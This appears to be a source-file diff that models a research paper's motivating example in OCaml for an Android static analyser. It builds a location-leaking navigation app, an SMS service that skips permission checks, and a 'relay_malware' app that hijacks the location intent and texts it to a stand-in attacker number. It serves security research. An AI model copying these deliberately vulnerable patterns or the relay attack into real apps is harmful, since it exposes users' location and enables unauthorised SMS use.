@@ -1,0 +1,103 @@
+(* The apps of the paper's motivating example (§II, Listings 1 and 2),
+   built against the public API.  Shared by the runnable examples. *)
+
+module B = Separ_dalvik.Builder
+open Separ_android
+module Apk = Separ_dalvik.Apk
+module Api = Separ_android.Api
+
+(* A navigation app: LocationFinder retrieves the device location and
+   forwards it by *implicit* intent to RouteFinder — the anti-pattern of
+   Listing 1 that enables unauthorized intent receipt. *)
+let navigation_app () =
+  let location_finder =
+    B.meth ~name:"onStartCommand" ~params:1 (fun b ->
+        let loc = B.get_location b in
+        let i = B.new_intent b in
+        B.set_action b i "showLoc";
+        B.put_extra b i ~key:"locationInfo" ~value:loc;
+        B.start_service b i)
+  in
+  let route_finder =
+    B.meth ~name:"onStartCommand" ~params:1 (fun b ->
+        let loc = B.get_string_extra b 0 ~key:"locationInfo" in
+        B.invoke b (Api.mref Api.c_notification "notify") [ loc ])
+  in
+  Apk.make
+    ~manifest:
+      (Manifest.make ~package:"com.example.navigation"
+         ~uses_permissions:[ Permission.access_fine_location ]
+         ~components:
+           [
+             Component.make ~name:"LocationFinder" ~kind:Component.Service ();
+             Component.make ~name:"RouteFinder" ~kind:Component.Service
+               ~intent_filters:
+                 [ Intent_filter.make ~actions:[ "showLoc" ] () ]
+               ();
+           ]
+         ())
+    ~classes:
+      [
+        B.cls ~name:"LocationFinder" [ location_finder ];
+        B.cls ~name:"RouteFinder" [ route_finder ];
+      ]
+
+(* A messenger app: MessageSender texts whatever its callers ask, without
+   checking their permission — Listing 2 with the hasPermission call
+   commented out. *)
+let messenger_app ?(guarded = false) () =
+  let send_text =
+    B.meth ~name:"sendText" ~params:2 (fun b ->
+        B.send_text_message b ~number:0 ~body:1)
+  in
+  let on_start =
+    B.meth ~name:"onStartCommand" ~params:1 (fun b ->
+        let num = B.get_string_extra b 0 ~key:"PHONE_NUM" in
+        let msg = B.get_string_extra b 0 ~key:"TEXT_MSG" in
+        if guarded then begin
+          let res = B.check_calling_permission b Permission.send_sms in
+          let deny = B.fresh_label b in
+          B.if_eqz b res deny;
+          B.call b ~cls:"MessageSender" ~name:"sendText" [ num; msg ];
+          B.place_label b deny
+        end
+        else B.call b ~cls:"MessageSender" ~name:"sendText" [ num; msg ])
+  in
+  Apk.make
+    ~manifest:
+      (Manifest.make ~package:"com.example.messenger"
+         ~uses_permissions:[ Permission.send_sms ]
+         ~components:
+           [
+             Component.make ~name:"MessageSender" ~kind:Component.Service
+               ~intent_filters:[ Intent_filter.make ~actions:[ "sendMsg" ] () ]
+               ();
+           ]
+         ())
+    ~classes:[ B.cls ~name:"MessageSender" [ on_start; send_text ] ]
+
+(* The composite malicious app of Figure 1: hijacks the location intent,
+   then relays the location through the messenger's unchecked SMS
+   service.  Requests no permissions of its own. *)
+let relay_malware () =
+  let on_start =
+    B.meth ~name:"onStartCommand" ~params:1 (fun b ->
+        let loc = B.get_string_extra b 0 ~key:"locationInfo" in
+        let i = B.new_intent b in
+        B.set_class_name b i "MessageSender";
+        let num = B.const_str b "+1-900-ATTACKER" in
+        B.put_extra b i ~key:"PHONE_NUM" ~value:num;
+        B.put_extra b i ~key:"TEXT_MSG" ~value:loc;
+        B.start_service b i)
+  in
+  Apk.make
+    ~manifest:
+      (Manifest.make ~package:"com.mal.relay" ~uses_permissions:[]
+         ~components:
+           [
+             Component.make ~name:"Relay" ~kind:Component.Service
+               ~intent_filters:[ Intent_filter.make ~actions:[ "showLoc" ] () ]
+               ();
+           ]
+         ())
+    ~classes:[ B.cls ~name:"Relay" [ on_start ] ]
